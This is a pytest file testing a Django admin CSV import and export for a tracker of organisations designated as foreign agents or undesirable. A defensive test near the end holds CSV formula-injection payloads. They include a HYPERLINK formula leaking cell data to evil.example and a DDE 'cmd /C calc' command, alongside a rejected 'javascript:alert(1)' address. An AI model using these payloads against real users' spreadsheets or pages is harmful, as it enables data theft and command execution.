"""Bulk import of designations through the admin: upload, preview (dry run), confirm; export."""

import csv
import datetime
import io
import re

import pytest
from django.apps import apps
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from import_export.formats.base_formats import CSV

from tests import factories
from tracker.choices import DatePrecision, OrganisationKind, Reliability, SourceKind, State
from tracker.imports import CHANGE_REASON, NEW_UNDATED, NEW_UNSOURCED
from tracker.models import Citation, Designation, Organisation, OrganisationAlias, Source

pytestmark = pytest.mark.django_db

IMPORT_URL = "/admin/tracker/designation/import/"
CONFIRM_URL = "/admin/tracker/designation/process_import/"
EXPORT_URL = "/admin/tracker/designation/export/"
HEADER = (
    "organisation name,aliases,country,designation type,authority,decision date,"
    "register date,source URL"
)
MODELS = (Organisation, OrganisationAlias, Designation, Source, Citation)


def csv_file(*rows, header=HEADER, name="register.csv"):
    text = "\n".join([header, *rows]) + "\n"
    return SimpleUploadedFile(name, text.encode(), content_type="text/csv")


def preview(client, upload):
    return client.post(IMPORT_URL, {"format": "0", "import_file": upload})


def confirm(client, previewed):
    form = previewed.context["confirm_form"]
    assert form is not None, "the preview offered no confirmation"
    return client.post(CONFIRM_URL, {name: form.initial[name] for name in form.fields})


def counts():
    return {model.__name__: model.objects.count() for model in MODELS}


def offers_confirmation(response):
    return bool(response.context.get("confirm_form")) or "process_import" in response.text


@pytest.fixture
def record():
    """A published organisation with an alias and a designation citing a source."""
    fidh = factories.OrganisationFactory(
        name="International Federation for Human Rights", slug="fidh", country="FR"
    )
    factories.OrganisationAliasFactory(organisation=fidh, name="FIDH")
    designation = factories.DesignationFactory(
        organisation=fidh, decision_date=datetime.date(2025, 5, 19)
    )
    factories.CitationFactory.for_object(
        designation, source=factories.SourceFactory(url="https://minjust.gov.ru/ru/7756/")
    )
    return designation


def test_preview_lists_new_matched_and_rejected_rows_and_writes_nothing(editor_client, record):
    before = counts()
    response = preview(
        editor_client,
        csv_file(
            "fidh,,,undesirable,Prosecutor General's Office,2025-05-19,,minjust.gov.ru/ru/7756",
            "Memorial,Мемориал,RU,foreign_agent,Ministry of Justice,2022-11,,https://ex.org/m",
            "Bad row,,,undesirable,,13/11/2025,,https://example.org/b",
        ),
    )

    assert response.status_code == 200
    page = response.text
    assert "Rejected rows" in page
    assert "“13/11/2025” is not a date" in page
    assert "Accepted rows" in page
    assert f"already recorded (#{record.pk}): skipped" in page
    assert "matched “International Federation for Human Rights” by alias “FIDH”" in page
    assert "new organisation “Memorial” (draft); adds aliases “Мемориал”" in page
    totals = response.context["result"].totals
    assert (totals["new"], totals["skip"], totals["invalid"]) == (1, 1, 1)
    assert not offers_confirmation(response)
    assert counts() == before


def test_preview_of_a_valid_file_offers_confirmation_and_writes_nothing(editor_client, record):
    before = counts()
    response = preview(
        editor_client,
        csv_file("Memorial,,RU,foreign_agent,Ministry of Justice,2022-11,,https://ex.org/m"),
    )

    assert response.status_code == 200
    assert "Preview" in response.text
    assert "1 new designation(s)" in response.text
    assert offers_confirmation(response)
    assert counts() == before


def test_confirm_creates_drafts_citing_sources_with_history_of_who_imported(
    editor, editor_client, record
):
    known_source = record.citations.get().source
    before = counts()
    previewed = preview(
        editor_client,
        csv_file(
            "Memorial,Мемориал; HRC Memorial,RU,foreign agent,Ministry of Justice,2022-11,"
            "2022-12-01,https://example.org/register/2022?utm_source=mail#top",
            "Фонд Свободы,,,Undesirable organisation,,2024,,http://www.minjust.gov.ru/ru/7756",
        ),
    )
    response = confirm(editor_client, previewed)

    assert response.status_code == 302
    assert response["Location"] == "/admin/tracker/designation/"
    memorial = Organisation.objects.get(name="Memorial")
    assert (memorial.state, memorial.kind, memorial.slug) == (
        State.DRAFT,
        OrganisationKind.OTHER,
        "memorial",
    )
    assert memorial.country == "RU"
    assert sorted(memorial.aliases.values_list("name", flat=True)) == ["HRC Memorial", "Мемориал"]
    designation = memorial.designations.get()
    assert designation.state == State.DRAFT
    assert designation.kind == "foreign_agent"
    assert designation.law is None
    assert (designation.decision_date, designation.decision_date_precision) == (
        datetime.date(2022, 11, 1),
        DatePrecision.MONTH,
    )
    assert designation.register_date == datetime.date(2022, 12, 1)

    source = designation.citations.get().source
    assert source.url == "https://example.org/register/2022"
    assert source.title == "example.org/register/2022"
    assert (source.kind, source.reliability) == (SourceKind.OTHER, Reliability.UNVERIFIED)
    assert "CSV import" in source.reliability_note

    fond = Organisation.objects.get(name="Фонд Свободы")
    assert fond.slug == "fond-svobody"
    fond_designation = fond.designations.get()
    assert fond_designation.decision_date_precision == DatePrecision.YEAR
    # The same document under another address form is the recorded source, not a new one.
    assert fond_designation.citations.get().source == known_source

    assert counts() == {
        "Organisation": before["Organisation"] + 2,
        "OrganisationAlias": before["OrganisationAlias"] + 2,
        "Designation": before["Designation"] + 2,
        "Source": before["Source"] + 1,
        "Citation": before["Citation"] + 2,
    }
    for created in (
        memorial,
        memorial.aliases.first(),
        designation,
        source,
        source.citations.get(),
    ):
        history = created.history.get()
        assert history.history_user == editor
        assert history.history_change_reason == f"{CHANGE_REASON} (register.csv)"


def test_import_matches_organisations_by_name_or_alias_in_any_case(editor_client, record):
    fidh = record.organisation
    # Neither is public, so the file may add to them (see the test after this one).
    Organisation.objects.filter(pk=fidh.pk).update(state=State.REVIEW)
    memorial = factories.OrganisationFactory(
        name="Мемориал", slug="memorial", country="", state=State.DRAFT
    )
    before = counts()
    previewed = preview(
        editor_client,
        csv_file(
            '"  INTERNATIONAL federation for human rights ",,UA,foreign_agent,,2024-03-01,,'
            "https://example.org/1",
            "fidh,Fédération internationale,,extremist,,2024-04-01,,https://example.org/2",
            "  мемориал  ,Memorial,RU,undesirable,,2024-05-01,,https://example.org/3",
        ),
    )
    assert "keeps its country FR (the file says UA)" in previewed.text
    assert "; Fédération internationale</ins>" in previewed.text  # the alias the row adds
    assert "matched “Мемориал” by name; sets its country to RU" in previewed.text
    confirm(editor_client, previewed)

    assert Organisation.objects.count() == before["Organisation"]
    assert fidh.designations.count() == 3
    assert memorial.designations.count() == 1
    fidh.refresh_from_db()
    memorial.refresh_from_db()
    assert fidh.country == "FR"  # never overwritten
    assert memorial.country == "RU"  # an empty country is filled
    assert set(fidh.aliases.values_list("name", flat=True)) == {"FIDH", "Fédération internationale"}
    assert list(memorial.aliases.values_list("name", flat=True)) == ["Memorial"]


def test_new_organisation_gets_a_transliterated_unique_slug_and_is_created_once(editor_client):
    factories.OrganisationFactory(name="Fond Svobody", slug="fond-svobody")
    previewed = preview(
        editor_client,
        csv_file(
            "Фонд Свободы,,,undesirable,,2024-02-01,,https://example.org/1",
            "ФОНД СВОБОДЫ,,,foreign_agent,,2023-02-01,,https://example.org/1",
        ),
    )
    assert "new from row 1" in previewed.text
    confirm(editor_client, previewed)

    created = Organisation.objects.get(name="Фонд Свободы")
    assert created.slug == "fond-svobody-2"
    assert created.designations.count() == 2
    assert Source.objects.filter(url="https://example.org/1").count() == 1


def test_reimporting_the_same_file_matches_everything(editor_client, record):
    rows = (
        "Memorial,Мемориал,RU,foreign_agent,Ministry of Justice,2022-11,,https://example.org/m",
        "FIDH,,,undesirable,,13.11.2025,,https://example.org/f",
    )
    confirm(editor_client, preview(editor_client, csv_file(*rows)))
    after_first = counts()

    again = preview(editor_client, csv_file(*rows))
    totals = again.context["result"].totals
    assert (totals["new"], totals["skip"]) == (0, 2)
    confirm(editor_client, again)
    assert counts() == after_first


BAD_FILES = {
    "wrong columns": (
        csv_file(
            "FIDH,FR,undesirable,,2025-01-01,,https://example.org/1,x",
            header="organisation,country,designation type,authority,decision date,"
            "register date,source URL,notes",
        ),
        [
            "Missing columns: organisation name, aliases.",
            "Unexpected columns: organisation, notes.",
        ],
    ),
    "bad date": (
        csv_file("Memorial,,,undesirable,,13/11/2025,,https://example.org/1"),
        ["“13/11/2025” is not a date: write YYYY-MM-DD, YYYY-MM, YYYY, c. YYYY or DD.MM.YYYY."],
    ),
    "impossible date": (
        csv_file("Memorial,,,undesirable,,2025-02-30,,https://example.org/1"),
        ["“2025-02-30” is not a real date."],
    ),
    "future date": (
        csv_file("Memorial,,,undesirable,,2100-01-01,,https://example.org/1"),
        ["The decision date is in the future."],
    ),
    "register before decision": (
        csv_file("Memorial,,,undesirable,,2025-03-01,2025-02-01,https://example.org/1"),
        ["The register date cannot be before the decision date."],
    ),
    "register month before the decision's month": (
        csv_file("Memorial,,,undesirable,,2025-03-13,2025-02,https://example.org/1"),
        ["The register date cannot be before the decision date."],
    ),
    "register year before the decision's year": (
        csv_file("Memorial,,,undesirable,,2025-03-13,2024,https://example.org/1"),
        ["The register date cannot be before the decision date."],
    ),
    "unknown type": (
        csv_file("Memorial,,,dangerous,,2025-03-01,,https://example.org/1"),
        ["“dangerous” is not a designation type"],
    ),
    "no date": (
        csv_file("Memorial,,,undesirable,,,,https://example.org/1"),
        ["A new designation needs its decision date, its register date or both"],
    ),
    "name too long": (
        csv_file(f"{'N' * 301},,,undesirable,,2025-03-01,,https://example.org/1"),
        ["organisation name: Ensure this value has at most 300 characters (it has 301)."],
    ),
    "no source": (
        csv_file("Memorial,,,undesirable,,2025-03-01,,"),
        ["source URL: Every new designation must cite a source: give its address."],
    ),
    "script address": (
        csv_file("Memorial,,,undesirable,,2025-03-01,,javascript:alert(1)"),
        ["“javascript:alert(1)” is not a web address."],
    ),
    "bad country": (
        csv_file("Memorial,,Russia,undesirable,,2025-03-01,,https://example.org/1"),
        ["“RUSSIA” is not a two-letter country code"],
    ),
    "duplicate rows": (
        csv_file(
            "Memorial,,,undesirable,,2025-03-01,,https://example.org/1",
            "memorial,,,Undesirable organisation,,2025-03-01,,https://example.org/2",
        ),
        ["Row 1 already has this organisation, designation type and decision date"],
    ),
    "semicolons": (
        csv_file(
            "Memorial;;;undesirable;;2025-03-01;;https://example.org/1",
            header=HEADER.replace(",", ";"),
        ),
        ["The columns seem to be separated by “;”"],
    ),
    "binary file": (
        SimpleUploadedFile("register.csv", b"PK\x03\x04\x14\x00\x00\x00\x08\x00binary"),
        ["This is not a CSV text file"],
    ),
    "not UTF-8": (
        SimpleUploadedFile(
            "register.csv",
            f"{HEADER}\nМемориал,,,undesirable,,2025-03-01,,https://example.org/1\n".encode(
                "cp1251"
            ),
        ),
        ["The file is not UTF-8 text."],
    ),
    "empty file": (SimpleUploadedFile("register.csv", b""), ["The submitted file is empty."]),
    "no data rows": (csv_file(), ["No valid data to import."]),
    "too many values in a row": (
        csv_file("Memorial,,,undesirable,,2025-03-01,,https://example.org/1,extra,values"),
        ["The file could not be read as CSV"],
    ),
}


@pytest.mark.parametrize("upload, messages", BAD_FILES.values(), ids=BAD_FILES.keys())
def test_bad_file_is_rejected_with_a_message_and_changes_nothing(
    editor_client, record, upload, messages
):
    upload.seek(0)
    before = counts()
    response = preview(editor_client, upload)

    assert response.status_code == 200
    for message in messages:
        assert message in response.text
    assert "cannot be null" not in response.text
    assert not offers_confirmation(response)
    assert counts() == before


def test_ambiguous_organisation_name_is_rejected(editor_client):
    factories.OrganisationFactory(name="Memorial", slug="memorial-1")
    factories.OrganisationFactory(name="MEMORIAL", slug="memorial-2")
    before = counts()
    response = preview(
        editor_client, csv_file("memorial,,,undesirable,,2025-03-01,,https://example.org/1")
    )

    assert "is the name of 2 organisations" in response.text
    assert not offers_confirmation(response)
    assert counts() == before


def test_oversized_upload_is_refused_before_it_is_parsed(editor_client, record, monkeypatch):
    def parse(*args, **kwargs):
        raise AssertionError("an oversized file was parsed")

    monkeypatch.setattr(CSV, "create_dataset", parse)
    before = counts()
    upload = SimpleUploadedFile("register.csv", b"x" * (50 * 1024 * 1024), content_type="text/csv")
    response = preview(editor_client, upload)

    assert response.status_code == 200
    assert "The file is too large" in response.text
    assert not offers_confirmation(response)
    assert counts() == before


def test_confirm_imports_nothing_when_a_row_fails_after_the_preview(editor_client, record):
    previewed = preview(
        editor_client,
        csv_file(
            "Memorial,,,undesirable,,2025-03-01,,https://example.org/1",
            "Sova Center,,,foreign_agent,,2025-03-01,,https://example.org/2",
        ),
    )
    assert offers_confirmation(previewed)
    # Before the editor confirms, a second "Sova Center" makes row 2 ambiguous.
    factories.OrganisationFactory(name="Sova Center", slug="sova-1")
    factories.OrganisationFactory(name="Sova Center", slug="sova-2")
    before = counts()
    response = confirm(editor_client, previewed)

    assert response.status_code == 302
    assert response["Location"] == IMPORT_URL
    assert counts() == before  # row 1 was valid, and is not imported either
    page = editor_client.get(response["Location"]).text
    assert "Nothing was imported" in page


def test_export_has_the_import_columns_and_reimports_as_matched(editor_client, record):
    month = factories.DesignationFactory(
        organisation=factories.OrganisationFactory(name="Мемориал", slug="memorial", country=""),
        kind="foreign_agent",
        decision_date=datetime.date(2022, 11, 1),
        decision_date_precision=DatePrecision.MONTH,
        register_date=datetime.date(2022, 12, 5),
    )
    factories.CitationFactory.for_object(month)

    page = editor_client.get(EXPORT_URL)
    assert page.status_code == 200
    response = editor_client.post(EXPORT_URL, {"format": "0"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    exported = response.content.decode()
    lines = exported.splitlines()
    assert lines[0] == HEADER
    assert (
        "International Federation for Human Rights,FIDH,FR,undesirable,"
        "Prosecutor General's Office,2025-05-19,,https://minjust.gov.ru/ru/7756/" in lines
    )
    assert any(
        line.startswith("Мемориал,,,foreign_agent,") and ",2022-11,2022-12-05," in line
        for line in lines
    )

    before = counts()
    previewed = preview(
        editor_client, SimpleUploadedFile("export.csv", exported.encode(), content_type="text/csv")
    )
    totals = previewed.context["result"].totals
    assert (totals["new"], totals["skip"], totals["invalid"], totals["error"]) == (0, 2, 0, 0)
    confirm(editor_client, previewed)
    assert counts() == before


def test_anonymous_user_cannot_import_or_export(client):
    before = counts()
    for url in (IMPORT_URL, EXPORT_URL):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/admin/login/")
    response = preview(client, csv_file("Memorial,,,undesirable,,2025-03-01,,https://ex.org/1"))
    assert response.status_code == 302
    assert counts() == before


def test_staff_who_may_only_view_designations_export_but_cannot_import(django_user_model):
    user = django_user_model.objects.create_user(username="reader", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_designation"))
    client = Client()
    client.force_login(user)

    assert client.get(IMPORT_URL).status_code == 403
    assert client.get(EXPORT_URL).status_code == 200
    changelist = client.get("/admin/tracker/designation/").text
    assert EXPORT_URL in changelist
    assert IMPORT_URL not in changelist


def test_editor_sees_import_and_export_on_the_designation_list(editor_client):
    page = editor_client.get("/admin/tracker/designation/").text
    assert IMPORT_URL in page
    assert EXPORT_URL in page


def test_import_and_export_pages_need_no_inline_script(editor_client, record):
    pages = [
        editor_client.get(IMPORT_URL),
        preview(editor_client, csv_file("Memorial,,,undesirable,,2025-03-01,,https://ex.org/1")),
        editor_client.get(EXPORT_URL),
    ]
    for page in pages:
        assert page.status_code == 200
        assert "script-src 'self'" in page["Content-Security-Policy"]
        assert re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", page.text) == []
        assert re.findall(r"\son[a-z]+=", page.text) == []


def export_csv(client):
    response = client.post(EXPORT_URL, {"format": "0"})
    assert response.status_code == 200
    return response.content.decode()


def exported_rows(exported):
    return list(csv.DictReader(io.StringIO(exported)))


def snapshot():
    """Every row of every tracker table, the history tables included."""
    return {
        model._meta.db_table: list(model.objects.order_by("pk").values())
        for model in apps.get_app_config("tracker").get_models()
    }


def reimport(client, exported):
    """Uploads an exported file and confirms it; returns the preview."""
    upload = SimpleUploadedFile("export.csv", exported.encode(), content_type="text/csv")
    previewed = preview(client, upload)
    assert previewed.status_code == 200
    response = confirm(client, previewed)
    assert response.status_code == 302
    assert response["Location"] == "/admin/tracker/designation/"
    return previewed


def test_the_seed_record_exported_and_imported_again_changes_nothing(editor_client):
    call_command("load_seed", stdout=io.StringIO())
    exported = export_csv(editor_client)
    rows = exported_rows(exported)
    assert len(rows) == Designation.objects.count() == 12
    by_name = {row["organisation name"]: row for row in rows}
    # What the import once refused: no dates, no source address, an approximate year.
    assert by_name["Memorial"]["decision date"] == by_name["Memorial"]["source URL"] == ""
    assert by_name["The Moscow Times"]["decision date"] == "c. 2024"
    assert by_name["Centre for Social Policy and Gender Studies"]["register date"] == "c. 2013"
    assert by_name["Amnesty International"]["country"] == "GB"
    before = snapshot()

    previewed = reimport(editor_client, exported)
    totals = previewed.context["result"].totals
    assert (totals["new"], totals["skip"], totals["invalid"], totals["error"]) == (0, 12, 0, 0)
    assert previewed.text.count("already recorded (#") == 12
    assert "proposes" not in previewed.text  # every name, alias and country read back as written
    assert snapshot() == before


def test_every_kind_of_date_alias_and_country_survives_the_round_trip(editor_client):
    memorial = factories.OrganisationFactory(
        name="Мемориал", slug="memorial", country="RU", state=State.DRAFT
    )
    factories.OrganisationAliasFactory(organisation=memorial, name="Memorial")
    factories.OrganisationAliasFactory(organisation=memorial, name="HRC «Memorial»")
    dates = {
        "2024-11-13": (datetime.date(2024, 11, 13), DatePrecision.DAY),
        "2023-11": (datetime.date(2023, 11, 1), DatePrecision.MONTH),
        "2022": (datetime.date(2022, 1, 1), DatePrecision.YEAR),
        "c. 2021": (datetime.date(2021, 1, 1), DatePrecision.APPROXIMATE),
    }
    for decided, precision in dates.values():
        factories.DesignationFactory(
            organisation=memorial,
            state=State.DRAFT,
            decision_date=decided,
            decision_date_precision=precision,
        )
    registered_only = factories.DesignationFactory(
        organisation=memorial,
        kind="foreign_agent",
        decision_date=None,
        register_date=datetime.date(2013, 1, 1),
        register_date_precision=DatePrecision.APPROXIMATE,
    )
    undated = factories.DesignationFactory(
        organisation=memorial, kind="extremist", decision_date=None
    )
    exported = export_csv(editor_client)
    rows = exported_rows(exported)
    assert {row["decision date"] for row in rows} == {*dates, ""}
    assert {row["aliases"] for row in rows} == {"HRC «Memorial»; Memorial"}
    assert {row["country"] for row in rows} == {"RU"}
    undated_rows = [row["register date"] for row in rows if row["decision date"] == ""]
    assert sorted(undated_rows) == ["", "c. 2013"]
    before = snapshot()

    previewed = reimport(editor_client, exported)
    assert previewed.context["result"].totals["skip"] == 6
    assert f"already recorded (#{registered_only.pk}): skipped" in previewed.text
    assert f"already recorded (#{undated.pk}): skipped" in previewed.text
    assert "adds aliases" not in previewed.text
    assert snapshot() == before


def test_import_reads_each_precision_and_orders_partial_dates_by_their_range(editor_client):
    previewed = preview(
        editor_client,
        csv_file(
            "Memorial,,,undesirable,,2025-11-13,2025-11,https://example.org/1",
            "Sova Center,,,foreign_agent,,2025-11-13,2025,https://example.org/2",
            "The Moscow Times,,,undesirable,,C. 2024,,https://example.org/3",
            "Truth Hounds,,,undesirable,,2024-05,2024-05-20,https://example.org/4",
        ),
    )
    assert previewed.context["result"].totals["new"] == 4
    confirm(editor_client, previewed)

    stored = {
        designation.organisation.name: designation
        for designation in Designation.objects.select_related("organisation")
    }
    assert (
        stored["Memorial"].register_date,
        stored["Memorial"].register_date_precision,
    ) == (datetime.date(2025, 11, 1), DatePrecision.MONTH)
    assert stored["Sova Center"].register_date_precision == DatePrecision.YEAR
    assert (
        stored["The Moscow Times"].decision_date,
        stored["The Moscow Times"].decision_date_precision,
    ) == (datetime.date(2024, 1, 1), DatePrecision.APPROXIMATE)
    assert stored["Truth Hounds"].decision_date_precision == DatePrecision.MONTH


def test_rows_without_dates_or_source_match_what_is_recorded_but_new_ones_need_both(
    editor_client,
):
    organisation = factories.OrganisationFactory(name="Truth Hounds", state=State.DRAFT)
    undated = factories.DesignationFactory(organisation=organisation, decision_date=None)
    dated = factories.DesignationFactory(
        organisation=organisation, decision_date=datetime.date(2025, 5, 19)
    )
    registered = factories.DesignationFactory(
        organisation=organisation,
        kind="foreign_agent",
        decision_date=None,
        register_date=datetime.date(2013, 1, 1),
        register_date_precision=DatePrecision.APPROXIMATE,
    )
    before = counts()
    response = preview(
        editor_client,
        csv_file(
            "Truth Hounds,,,undesirable,,,,",
            "Truth Hounds,,,undesirable,,2025-05-19,,",
            "Truth Hounds,,,foreign_agent,,,c. 2013,",
            "Truth Hounds,,,extremist,,,,https://example.org/1",
            "Truth Hounds,,,extremist,,2025-01-01,,",
            "Truth Hounds,,,foreign_agent,,,2014,https://example.org/2",
        ),
    )
    page = response.text
    for designation in (undated, dated, registered):
        assert f"already recorded (#{designation.pk}): skipped" in page
    invalid = response.context["result"].invalid_rows
    assert {row.number: row.field_specific_errors for row in invalid} == {
        4: {"decision date": [NEW_UNDATED]},
        5: {"source URL": [NEW_UNSOURCED]},
    }
    assert NEW_UNDATED in page
    totals = response.context["result"].totals
    assert (totals["skip"], totals["invalid"], totals["new"]) == (3, 2, 1)
    assert not offers_confirmation(response)
    assert counts() == before


def test_a_published_organisation_keeps_its_country_and_aliases(editor_client, record):
    fidh = record.organisation
    moscow_times = factories.OrganisationFactory(name="The Moscow Times", country="")
    history = {
        organisation.pk: organisation.history.count() for organisation in (fidh, moscow_times)
    }
    before = counts()
    previewed = preview(
        editor_client,
        csv_file(
            "fidh,Fédération internationale; FIDH,UA,extremist,,2024-04-01,,https://example.org/2",
            "The Moscow Times,,NL,undesirable,,c. 2024,,https://example.org/3",
        ),
    )
    page = previewed.text
    assert (
        "published: country and aliases not changed (the file proposes country UA and aliases "
        "“Fédération internationale”; left for an editor to review)" in page
    )
    assert "published: country and aliases not changed (the file proposes country NL;" in page
    assert "adds aliases" not in page
    confirm(editor_client, previewed)

    for organisation in (fidh, moscow_times):
        organisation.refresh_from_db()
        assert organisation.history.count() == history[organisation.pk]
    assert (fidh.country, moscow_times.country) == ("FR", "")
    assert list(fidh.aliases.values_list("name", flat=True)) == ["FIDH"]
    assert counts() == {
        **before,
        "Designation": before["Designation"] + 2,
        "Source": before["Source"] + 2,
        "Citation": before["Citation"] + 2,
    }
    # The new designations are drafts, whatever their organisation's state.
    assert set(
        Designation.objects.filter(organisation__in=[fidh, moscow_times])
        .exclude(pk=record.pk)
        .values_list("state", flat=True)
    ) == {State.DRAFT}


def confirm_after(client, rows, change):
    """Previews `rows`, runs `change` on the record, then confirms; returns the response."""
    previewed = preview(client, csv_file(*rows))
    assert offers_confirmation(previewed)
    change()
    before = counts()
    response = confirm(client, previewed)
    assert counts() == before
    return response


def test_confirm_imports_nothing_when_an_organisation_was_published_since_the_preview(
    editor_client,
):
    memorial = factories.OrganisationFactory(name="Memorial", country="", state=State.DRAFT)
    response = confirm_after(
        editor_client,
        [
            "Memorial,Мемориал,RU,undesirable,,2025-03-01,,https://example.org/1",
            "Sova Center,,,foreign_agent,,2025-03-01,,https://example.org/2",
        ],
        lambda: Organisation.objects.filter(pk=memorial.pk).update(state=State.PUBLISHED),
    )

    assert response.status_code == 302
    assert response["Location"] == IMPORT_URL
    assert "Nothing was imported: the record changed since the preview" in (
        editor_client.get(IMPORT_URL).text
    )
    memorial.refresh_from_db()
    assert memorial.country == ""
    assert not memorial.aliases.exists()
    assert not Organisation.objects.filter(name="Sova Center").exists()


def test_confirm_imports_nothing_when_a_new_row_was_recorded_since_the_preview(editor_client):
    memorial = factories.OrganisationFactory(name="Memorial", state=State.DRAFT)
    response = confirm_after(
        editor_client,
        [
            "Memorial,,,undesirable,,2025-03-01,,https://example.org/1",
            "Sova Center,,,foreign_agent,,2025-03-01,,https://example.org/2",
        ],
        lambda: factories.DesignationFactory(
            organisation=memorial, decision_date=datetime.date(2025, 3, 1)
        ),
    )

    assert response["Location"] == IMPORT_URL
    assert not Organisation.objects.filter(name="Sova Center").exists()


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_export_escapes_formulas_and_the_import_reads_them_back(editor_client, prefix):
    names = {
        "name": f'{prefix}HYPERLINK("https://evil.example/?"&A1,"Rights")',
        "alias": f"{prefix}SUM(1+1)",
        "authority": f"{prefix}cmd|' /C calc'!A0",
        "quoted name": f"'{prefix}already quoted",
        "apostrophe": "'s-Hertogenbosch Rights",
    }
    organisation = factories.OrganisationFactory(name=names["name"], state=State.DRAFT)
    factories.OrganisationAliasFactory(organisation=organisation, name=names["alias"])
    factories.DesignationFactory(organisation=organisation, authority=names["authority"])
    factories.DesignationFactory(
        organisation=factories.OrganisationFactory(name=names["quoted name"], state=State.DRAFT)
    )
    factories.DesignationFactory(
        organisation=factories.OrganisationFactory(name=names["apostrophe"], state=State.DRAFT)
    )

    exported = export_csv(editor_client)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert f"'{names['name']}" in cells
    assert f"'{names['alias']}" in cells
    assert f"'{names['authority']}" in cells
    assert f"''{prefix}already quoted" in cells
    assert names["apostrophe"] in cells  # not a formula: written as it is

    before = snapshot()
    previewed = reimport(editor_client, exported)
    totals = previewed.context["result"].totals
    assert (totals["new"], totals["skip"]) == (0, 3)
    assert snapshot() == before
